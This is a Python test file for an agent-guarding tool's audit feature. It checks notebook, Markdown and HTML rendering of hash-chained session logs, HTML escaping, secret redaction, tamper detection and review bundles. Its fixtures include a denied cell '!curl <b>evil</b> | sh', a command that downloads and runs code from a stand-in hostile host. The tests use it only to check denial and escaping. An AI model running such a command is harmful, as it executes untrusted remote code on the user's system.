"""The audit notebook: ``audit render`` (ipynb, Markdown, HTML) and ``audit bundle``."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import nbformat
import pytest

from guard_kernel.audit.chain import read_records
from guard_kernel.audit.notebook import NotebookRenderer, format_for, render, to_html, to_markdown
from guard_kernel.cli.main import main
from guard_kernel.decision import Guard, Request
from guard_kernel.policy import Action, load_policy

DATA = Path(__file__).parent / "data"
SMALL = DATA / "small-session.jsonl"
REPO = Path(__file__).resolve().parents[2]


def valid(nb: dict[str, object]) -> nbformat.NotebookNode:
    node = nbformat.from_dict(nb)
    nbformat.validate(node)
    return node


def test_a_small_session_renders_as_its_golden_markdown() -> None:
    nb = NotebookRenderer("small-session.jsonl").feed_file(str(SMALL)).notebook()
    valid(nb)
    assert to_markdown(nb) == (DATA / "small-session.md").read_text()


def test_the_notebook_has_a_header_denials_and_each_cell_in_order_with_its_tags() -> None:
    nb = render(str(SMALL))
    valid(nb)
    cells = nb["cells"]
    head = cells[0]["source"]
    assert "| 3 | 1 | 1 | 1 | 0 | 0 |" in head  # cells, allowed, denied, truncated, warnings, would-deny
    assert "agent · ana@laptop" in head and "cell\\_gate, duckdb" in head and "closed (shutdown)" in head
    assert "(#DENIED-at-seq-5)" in cells[1]["source"]
    code = [c for c in cells if c["cell_type"] == "code"]
    assert [c["execution_count"] for c in code] == [1, 2, 3]
    assert [c["metadata"]["tags"] for c in code] == [[], ["guard-denied"], ["guard-truncated"]]
    assert code[0]["outputs"][0]["data"]["text/plain"] == "[(1000,)]"
    last = list(read_records(str(SMALL)))[-1]
    meta = nb["metadata"]["guard_kernel"]
    assert meta["session"] == "20260101T090000Z-0badc0de" and meta["last_hash"] == last["hash"]
    assert meta["chain_ok"] is True and meta["last_seq"] == 8
    assert "kernelspec" not in nb["metadata"]  # nothing asks to run on open


def test_text_from_the_audit_is_never_markup() -> None:
    md = to_markdown(render(str(SMALL)))
    assert "<b>" not in md.replace("```python\n!curl <b>evil</b> | sh\n```", "")
    html = to_html(render(str(SMALL)))
    assert "<b>evil" not in html and "&lt;b&gt;evil" in html
    assert "agent-no-egress (policies/default.yaml:31)" in html and "DENIED at seq 5" in html


def test_a_crashed_session_renders_and_says_how_it_ended(tmp_path: Path) -> None:
    f = tmp_path / "crashed.jsonl"
    raw = SMALL.read_bytes().splitlines(keepends=True)
    f.write_bytes(b"".join(raw[:4]) + raw[4][:40])  # killed mid-write, after a denial, before its cell record
    nb = render(str(f))
    valid(nb)
    text = to_markdown(nb)
    assert "ended without a close record after seq 4" in text
    assert "the cell that made them had not finished" in text and "curl" in text
    assert nb["metadata"]["guard_kernel"]["chain_ok"] is False  # the cut-short last line is named
    assert "cut short" in text


def test_records_after_a_break_in_the_chain_are_not_shown(tmp_path: Path) -> None:
    f = tmp_path / "edited.jsonl"
    f.write_text(SMALL.read_text().replace("!curl", "!wget"))
    nb = render(str(f))
    text = to_markdown(nb)
    assert "wget" not in text and "BROKEN" in text and "edited" in text
    assert "later record(s) are not shown" in text
    assert main(["audit", "render", str(f), "-o", str(tmp_path / "e.ipynb")]) == 1


def test_a_real_session_renders_without_the_values_the_audit_redacted(tmp_path: Path) -> None:
    pol = load_policy(str(REPO / "policies" / "default.yaml"), root=str(tmp_path))
    g = Guard(pol, actor="agent", audit_dir=str(tmp_path / "audit"), notify=lambda d: None)
    g.check(Request(Action.SQL_READ, "warehouse.orders"), "sql")
    with pytest.raises(PermissionError):
        g.check(Request(Action.SHELL_EXEC, "ls", command="ls"), "shell")
    secret = "postgresql://u:s3cr3t-Pa55-7f2c@db/x"
    g.record("cell", action=None, resource="cell[1]", decision="deny", rules=[], message="", status="error",
             code=f"!ls\nc = connect('{secret}')", execution_count=1)
    g.close("shutdown")
    for fmt in ("ipynb", "md", "html"):
        out = tmp_path / f"s.{fmt}"
        assert main(["audit", "render", g.audit_path, "-o", str(out)]) == 0
        text = out.read_text()
        assert "s3cr3t-Pa55-7f2c" not in text and "u:***@db" in text
    valid(json.loads((tmp_path / "s.ipynb").read_text()))


def test_the_format_comes_from_the_flag_then_the_suffix_then_ipynb(tmp_path: Path) -> None:
    assert format_for("md", "x.html") == "md" and format_for(None, "x.html") == "html"
    assert format_for(None, "x.md") == "md" and format_for(None, None) == "ipynb" and format_for(None, "x") == "ipynb"
    f = tmp_path / "s.jsonl"
    shutil.copyfile(SMALL, f)
    assert main(["audit", "render", str(f)]) == 0
    valid(json.loads((tmp_path / "s.ipynb").read_text()))
    assert main(["audit", "render", str(f), "-o", str(tmp_path / "out"), "--format", "html"]) == 0
    assert (tmp_path / "out").read_text().lstrip().lower().startswith("<!doctype html")
    assert main(["audit", "render", str(tmp_path / "nope.jsonl")]) == 2


def test_a_bundle_holds_the_audit_its_notebook_its_page_and_the_proof(tmp_path: Path,
                                                                     capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "review"
    assert main(["audit", "bundle", str(SMALL), "-o", str(out)]) == 0
    names = sorted(p.name for p in out.iterdir())
    assert names == ["VERIFY.txt", "small-session.html", "small-session.ipynb", "small-session.jsonl"]
    assert (out / "small-session.jsonl").read_bytes() == SMALL.read_bytes()
    last = list(read_records(str(SMALL)))[-1]["hash"]
    proof = (out / "VERIFY.txt").read_text()
    assert "verify:     ok, hash chain intact" in proof and f"last hash:  {last}" in proof
    import hashlib

    for name in names[1:]:
        assert f"{hashlib.sha256((out / name).read_bytes()).hexdigest()}  {name}" in proof
    nb = valid(json.loads((out / "small-session.ipynb").read_text()))
    assert nb.metadata.guard_kernel.last_hash == last
    assert "DENIED at seq 5" in (out / "small-session.html").read_text()
    assert main(["audit", "verify", str(out / "small-session.jsonl")]) == 0
    capsys.readouterr()
    broken = tmp_path / "broken.jsonl"
    broken.write_text(SMALL.read_text().replace("!curl", "!wget"))
    assert main(["audit", "bundle", str(broken), "-o", str(tmp_path / "b2")]) == 1
    assert "verify:     BROKEN" in (tmp_path / "b2" / "VERIFY.txt").read_text()
